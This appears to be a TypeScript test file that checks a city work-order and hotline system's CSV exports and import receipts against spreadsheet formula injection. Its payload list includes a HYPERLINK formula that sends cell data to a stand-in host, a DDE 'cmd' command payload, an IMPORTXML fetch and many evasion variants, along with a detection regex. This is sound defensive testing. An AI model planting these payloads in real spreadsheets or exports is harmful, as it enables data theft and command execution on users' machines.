import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { importTask } from '../../src/features/work-order/import/task.ts'
import { readCsv, writeCsv } from '../../src/platform/csv/csv.ts'
import { sql } from '../../src/platform/db/types.ts'
import { bytesSource, openTable } from '../../src/platform/tables/tables.ts'
import { type Attacked, attackedCity, ROUTES } from './city.ts'

/** Texts a spreadsheet would run, or has run: signs, full width, tabs and line ends, blanks before them, DDE. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("http://elsewhere.test/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://elsewhere.test","//a")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  '-2+3+cmd|',
  '=\u202e1+1',
  ';=1+1',
  ',=1+1',
] as const

/** What a spreadsheet takes for a formula when it opens a cell. */
const RUNS = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/

const cellsOf = (csv: string): readonly string[] =>
  (parse(csv, { bom: true, relax_column_count: true }) as readonly (readonly string[])[]).flat()
const running = (csv: string): readonly string[] => cellsOf(csv).filter(cell => RUNS.test(cell))

const send = async ({ server, cookies }: Attacked, url: string, name: string, text: string, fields: object = {}) => {
  const form = new FormData()
  for (const [field, value] of Object.entries(fields)) form.append(field, String(value))
  form.append('file', new Blob([text]), name)
  const request = new Request('http://x/', { method: 'POST', body: form })
  return server.app.inject({
    method: 'POST',
    url,
    payload: Buffer.from(await request.arrayBuffer()),
    headers: {
      cookie: url.includes('console') ? cookies.systemAdmin : cookies.deskLead,
      'idempotency-key': crypto.randomUUID(),
      'content-type': request.headers.get('content-type') ?? '',
    },
  })
}

test('S-45 nothing that leaves as a table runs in a spreadsheet: every export, with headings, and every receipt', async t => {
  const attacked = await attackedCity(t)
  const { server, cast, cookies, city, vault } = attacked
  const [desk, operator] = [server.as(cast.deskLead), server.as(cast.systemAdmin)]
  for (const text of FORMULAS) {
    const given = { text: `${text} 路灯`, title: text.slice(0, 60), area: '442000001007', channel: 'phone' }
    const made = await desk.post('/api/staff/work-orders', given)
    assert.equal(made.status, 201, made.text)
    await desk.post(`/api/work-orders/${made.json().id}/admit`, {})
    const shown = { title: `${text}.`, text: `${text} 已办` }
    assert.equal((await desk.post(`/api/work-orders/${made.json().id}/publish`, shown)).status, 200)
  }
  const lines: readonly { id: string; version: number }[] = (await operator.get('/api/hotlines?limit=100')).json().items
  for (const [index, text] of FORMULAS.entries()) {
    const line = lines[index]
    const sending = { headers: { 'if-match': `"${line?.version}"` } }
    const put = await operator.put(
      `/api/console/hotlines/${line?.id}`,
      { number: String(96_000 + index), name: text },
      sending,
    )
    assert.ok(put.status === 200, put.text)
  }
  // Dates that are none, so that every row is refused and comes back in the receipt, under headings that are formulas.
  const file = writeCsv(
    ['编号', '诉求类型', '渠道', '标题', '内容', '日期', '答复', '答复天数', '地点', '=1+1'],
    FORMULAS.map((text, index) => ({
      编号: index,
      诉求类型: '投诉',
      渠道: '电话',
      标题: text,
      地点: text,
      答复: text,
      内容: text,
      日期: text,
      '=1+1': text,
    })),
  )
  const ordered = await send(attacked, '/api/work-orders/imports', 'a.csv', file, { source: 'old' })
  assert.equal(ordered.statusCode, 202, ordered.body)
  const { id } = ordered.json()
  await importTask.run({ id }, { db: city.db, now: server.now, id, vault, own: [] })

  const EXPORTS: readonly (readonly [path: string, cookie: string, mentions: RegExp])[] = [
    ['/api/work-orders/export.csv', cookies.deskLead, /HYPERLINK/],
    ['/api/open/work-orders.csv', '', /HYPERLINK/],
    ['/api/console/hotlines.csv', cookies.systemAdmin, /HYPERLINK/],
    ['/open/figures/rows.csv?month=2026-10', '', /./],
    ['/api/estates/template', cookies.communityWorker, /房号/],
    ['/api/funds/templates/accounts', cookies.communityWorker, /房号/],
    ['/api/volunteer-services/export.csv?from=2026-01-01&to=2026-12-31', cookies.communityWorker, /时长/],
    [`/api/work-orders/imports/${id}/receipt`, cookies.deskLead, /HYPERLINK/],
  ]
  const tables = ROUTES.filter(route => route.kind === 'api' && /csv/.test(route.produces ?? ''))
  assert.equal(tables.length, EXPORTS.length, `an export is missing here: ${tables.map(route => route.path).join(' ')}`)
  const faults: string[] = []
  for (const [path, cookie, mentions] of EXPORTS) {
    const { statusCode, body, headers } = await server.app.inject({ url: path, headers: { cookie } })
    if (statusCode !== 200 || !mentions.test(body)) faults.push(`${path}: ${statusCode}`)
    if (
      !/text\/csv/.test(String(headers['content-type'])) ||
      !/^attachment/.test(String(headers['content-disposition']))
    )
      faults.push(`${path}: shown, not taken away`)
    faults.push(...running(body).map(cell => `${path}: ${JSON.stringify(cell)}`))
  }
  assert.deepEqual(faults, [])

  await t.test('a receipt that was put right comes in again with the texts it came with', async () => {
    const { body } = await server.app.inject({
      url: `/api/work-orders/imports/${id}/receipt`,
      headers: { cookie: cookies.deskLead },
    })
    const opened = await openTable(bytesSource('receipt.csv', Buffer.from(body)))
    assert.ok(opened.ok)
    assert.ok(opened.value.header.includes('=1+1'))
    const back: string[] = []
    for await (const row of opened.value.rows()) back.push(row.cells['=1+1'] ?? '')
    assert.deepEqual(back.toSorted(), FORMULAS.map(text => text.replace('\u202e', '')).toSorted())
  })

  await t.test('the list of hotlines comes in again as it went out', async () => {
    const before = await city.db.rows(sql('t.lines', 'select number, name from city.hotline order by number'))
    const { body } = await server.app.inject({
      url: '/api/console/hotlines.csv',
      headers: { cookie: cookies.systemAdmin },
    })
    const taken = await send(attacked, '/api/console/hotlines/import', 'hotlines.csv', body)
    assert.equal(taken.statusCode, 200, taken.body)
    assert.deepEqual(
      await city.db.rows(sql('t.lines', 'select number, name from city.hotline order by number')),
      before,
    )
  })
})

test('S-45 tables of other kinds hold no formula either: JSON lines and workbooks are read as text, never evaluated', async () => {
  for (const text of FORMULAS) {
    const jsonl = await openTable(bytesSource('a.jsonl', Buffer.from(`${JSON.stringify({ 内容: `x${text}` })}\n`)))
    assert.ok(jsonl.ok)
    for await (const row of jsonl.value.rows())
      assert.equal(row.cells.内容, `x${text}`.replace('\u202e', '').normalize('NFC').trim())
  }
  const read = readCsv(
    Buffer.from(
      writeCsv(
        ['a'],
        FORMULAS.map(a => ({ a })),
      ),
    ),
  )
  assert.ok(read.ok)
  assert.deepEqual(
    read.value.rows.map(row => row.cells.a),
    FORMULAS.map(text => text.replace('\u202e', '')),
  )
})
